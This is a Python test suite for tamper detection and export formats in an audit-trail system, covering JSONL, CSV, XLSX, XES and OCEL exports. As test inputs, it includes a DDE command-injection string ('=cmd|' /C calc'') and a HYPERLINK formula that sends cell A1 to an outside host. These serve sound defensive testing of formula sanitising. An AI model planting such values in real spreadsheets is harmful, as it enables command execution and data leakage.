"""Exports: verified by the stand-alone verifier, each kind of tampering named; the same traces in every format."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import jsonschema_rs
import pytest

from engine.audit import offline
from engine.audit.exports import forms
from engine.domain import commands as c
from engine.domain.actors import SYSTEM
from engine.queries import exports as query
from engine.queries.exports import Wanted
from tests.audit import ocel
from tests.engine.drawn import bpmn, sequence, task
from tests.office import Office, admin, auditor, clerk, owner
from tests.webui.pages import REFUND, forge
from webui import exports

XES = "{http://www.xes-standard.org/}"


@pytest.fixture
def office(database):
    return Office(database)


@pytest.fixture
def case(office):
    first = office.start(REFUND, by=clerk, amount="12.50", reason="double charge")
    first.task("check").complete(by=clerk, amount="20", bought_on="2026-02-27", how="card")
    first.ask(c.AddNote, "=cmd|' /C calc'!A0 王女士", by=clerk)
    office.start(REFUND, by=clerk, amount="3")
    return first


def exported(office, form="jsonl", by=auditor, **wanted):
    actor = SYSTEM if by is None else office.actor(by)
    return b"".join(exports.begin(office.engine, actor, form, Wanted(**wanted), "en").pieces())


def verified(data):
    return offline.Trail().read(io.BytesIO(data))


def changed(data, change):
    """The lines of an export, altered; the last line, which counts them, is made to fit again."""
    lines = [json.loads(line) for line in data.splitlines()]
    change(lines)
    body = b"".join(json.dumps(line, ensure_ascii=False, separators=(",", ":")).encode() + b"\n" for line in lines[:-1])
    import hashlib

    end = lines[-1] | {"entries": sum("seq" in one and "end_of" not in one for one in lines), "sha256": hashlib.sha256(body).hexdigest()}
    end["chains"] = sum("end_of" in one for one in lines)
    return body + json.dumps(end).encode() + b"\n"


def at(lines, case, seq):
    return next(n for n, one in enumerate(lines) if one.get("case") == case and one["seq"] == seq)


def test_an_export_holds_and_is_recorded(office, case):
    data = exported(office)
    found = verified(data)
    assert (found.faults, found.chains) == ([], 3)
    told = office.system_trail().last("TrailExported")
    assert (told["format"], told["cases"], told["entries"] + 1, told.by) == ("jsonl", 2, found.entries, auditor)
    with office.engine.read() as conn:
        from engine.store import trail

        assert found.heads == {chain: (seq, head.hex()) for chain, seq, head in trail.heads(conn)}
    one = verified(exported(office, case_id=case.id))
    assert (one.faults, list(one.heads)) == ([], [case.id])


def alter(lines):
    lines[at(lines, 1, 3)]["actor"] = 99


def alter_body(lines):
    one = lines[at(lines, 1, 2)]
    one["body"] = one["body"].replace('"', "'", 1)


def remove(lines):
    del lines[at(lines, 1, 2)]


def swap(lines):
    n = at(lines, 1, 2)
    lines[n], lines[n + 1] = lines[n + 1], lines[n]


def insert(lines):
    n = at(lines, 1, 2)
    lines.insert(n, lines[n] | {"actor": 7})


def repeat(lines):
    n = at(lines, 1, 2)
    lines.insert(n + 1, dict(lines[n]))


def cut_tail(lines):
    n = next(n for n, one in enumerate(lines) if one.get("end_of") == 1)
    del lines[n - 1]


def alter_head(lines):
    next(one for one in lines if one.get("end_of") == 1)["hash"] = "00" * 32


def alter_value(lines):
    one = next(one for one in lines if one.get("case") == 1 and one.get("personal"))
    next(iter(one["personal"].values()))["value"] = "somebody else"


@pytest.mark.parametrize(
    ("change", "kind", "entry"),
    [(alter, "altered", 3), (alter_body, "altered", 2), (remove, "removed", 2), (swap, "reordered", 2), (insert, "inserted", 2),
     (repeat, "inserted", 3), (cut_tail, "tail-cut", None), (alter_head, "head-altered", None), (alter_value, "value-altered", None)],
)  # fmt: skip
def test_the_first_bad_entry_is_named(office, case, change, kind, entry):
    data = exported(office, case_id=case.id)
    (where, no, found), = verified(changed(data, change)).faults
    assert (where, found) == ("CL-000001", kind) and entry in (None, no)


def test_a_file_that_was_cut_or_altered_is_said(office, case):
    data = exported(office)
    lines = data.splitlines(keepends=True)
    assert [f[2] for f in verified(b"".join(lines[:-1])).faults] == ["file-cut"]
    assert [f[2] for f in verified(data + lines[1]).faults] == ["unreadable"]
    assert [f[2] for f in verified(data.replace(b"made_at", b"made-at")).faults] == ["file-altered"]
    first = next(n for n, line in enumerate(lines) if b'"case":2' in line)
    assert [f[2] for f in verified(b"".join([*lines[:first], lines[-1]])).faults] == ["removed"]
    assert verified(b"").faults == [("line", 1, "file-cut")]
    assert verified(b"[]\n").faults == [("line", 1, "unreadable")]


def test_what_was_altered_in_the_database_is_seen_in_the_export(office, database, case):
    forge(database, "UPDATE entry SET body = :body WHERE case_id = 1 AND seq = 3", body=b"\xff\xfe")
    assert verified(exported(office, case_id=1)).faults == [("CL-000001", 3, "altered")]


def test_it_verifies_where_there_is_nothing_but_python(office, case, tmp_path):
    (tmp_path / "trail.jsonl").write_bytes(data := exported(office))
    (tmp_path / "verify.py").write_bytes(Path(offline.__file__).read_bytes())
    command = [sys.executable, "-I", "-S", "verify.py", "trail.jsonl"]
    said = subprocess.run(command, cwd=tmp_path, capture_output=True, check=False)
    assert said.returncode == 0 and b"the trail holds" in said.stdout, said
    (tmp_path / "trail.jsonl").write_bytes(changed(data, remove))
    said = subprocess.run(command, cwd=tmp_path, capture_output=True, check=False)
    assert said.returncode == 1 and b"CL-000001, 2: removed" in said.stdout


def test_deleted_personal_values_are_in_no_format(office, case):
    assert "王女士".encode() in exported(office) and "王女士".encode() in exported(office, "csv")
    office.ask(c.RedactPersonalValues(case.id, "asked"), admin)
    for form in sorted(forms.FORMS.keys() - {"evidence"}):
        data = exported(office, form)
        if form == "xlsx":
            with zipfile.ZipFile(io.BytesIO(data)) as book:
                data = b"".join(book.read(name) for name in book.namelist())
        assert "王女士".encode() not in data
    assert verified(exported(office)).faults == []


def traces(office):
    """Case and entry, in order, as the database has them."""
    with office.engine.read():
        lines = query.chains(office.engine.read, office.engine.versions, Wanted())
        return [(line.case.number, line.activity, line.lifecycle) for line in lines if hasattr(line, "body") and line.case.id]


def test_xes_has_the_same_traces(office, case):
    log = ElementTree.fromstring(exported(office, "xes"))
    order = [child.tag.removeprefix(XES) for child in log]
    assert order == ["extension"] * 4 + ["global"] * 2 + ["classifier"] * 2 + ["string"] + ["trace"] * 2
    assert [e.get("prefix") for e in log.iter(f"{XES}extension")] == ["concept", "time", "org", "lifecycle"]
    found = []
    for trace in log.iter(f"{XES}trace"):
        number = trace.find(f"{XES}string[@key='concept:name']").get("value")
        for event in trace.iter(f"{XES}event"):
            keys = {one.get("key"): one.get("value") for one in event}
            assert {"concept:name", "time:timestamp", "lifecycle:transition", "org:resource"} <= keys.keys()
            found.append((number, keys["concept:name"], keys["lifecycle:transition"]))
    assert found == traces(office) and ("CL-000001", "Check", "complete") in found


def test_ocel_is_of_its_schema_and_every_relation_leads_somewhere(office, case):
    log = json.loads(exported(office, "ocel"))
    jsonschema_rs.Draft202012Validator(ocel.LOG, validate_formats=True).validate(log)
    ids = {one["id"] for one in log["objects"]}
    assert len(ids) == len(log["objects"]) and len({one["id"] for one in log["events"]}) == len(log["events"])
    assert {r["objectId"] for one in log["events"] + log["objects"] for r in one["relationships"]} <= ids
    kinds = {one["name"] for one in log["objectTypes"]}
    assert {one["type"] for one in log["objects"]} <= kinds and {one["type"] for one in log["events"]} <= {
        one["name"] for one in log["eventTypes"]
    }
    assert [e["relationships"][0]["objectId"] for e in log["events"]] == [f"case:{number}" for number, _, _ in traces(office)]


def test_csv_is_a_row_an_event_and_no_cell_a_formula(office, case):
    data = exported(office, "csv")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert data.startswith(b"\xef\xbb\xbf")
    assert [(r["case"], r["activity"], r["lifecycle"]) for r in rows if r["case"] != "system"] == traces(office)
    assert not [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t"))]
    from engine.audit.exports.tables import safe

    assert [safe(cell) for cell in ("=1+1", "-1", "@a", "\tx", "+1", "a=1")] == ["'=1+1", "'-1", "'@a", "'\tx", "'+1", "a=1"]


FORMULA = "=HYPERLINK(&quot;http://example.org/&quot;&amp;A1)"
SAID = '=HYPERLINK("http://example.org/"&A1)'


def test_a_step_called_like_a_formula_is_a_formula_nowhere(office):
    drawn = bpmn(sequence("p", task("a", "front-desk"), path="s > a > e"))
    office.start(drawn.replace(b'name="a"', f'name="{FORMULA}"'.encode()))
    rows = list(csv.DictReader(io.StringIO(exported(office, "csv").decode("utf-8-sig"))))
    assert "'" + SAID in {row["activity"] for row in rows} and not [1 for row in rows if SAID in row.values()]
    with zipfile.ZipFile(io.BytesIO(exported(office, "xlsx"))) as book:
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
        links = [name for name in book.namelist() if "rels" in name and "sheet" in name and b"hyperlink" in book.read(name)]
    cells = [cell for cell in sheet.iter() if cell.tag.endswith("}c")]
    assert SAID in {"".join(cell.itertext()) for cell in cells} and len(cells) > 100
    assert {cell.get("t") for cell in cells} == {"inlineStr"} and links == []
    assert not [one for one in sheet.iter() if one.tag.endswith(("}f", "}hyperlink"))]


def test_filters(office, case):
    def cases(**wanted):
        return sorted(verified(exported(office, **wanted)).heads)

    assert cases() == [0, 1, 2] and cases(procedure="refund") == [1, 2] and cases(case_id=2) == [2]
    assert cases(from_at=office.now) == [1, 2] and cases(to_at=office.now) == []
    assert cases(by=owner) == [1, 2]


def test_a_chain_longer_than_a_batch(office, case, monkeypatch):
    monkeypatch.setattr(query, "ENTRIES", 3)
    monkeypatch.setattr(query, "CASES", 1)
    assert verified(exported(office)).faults == []
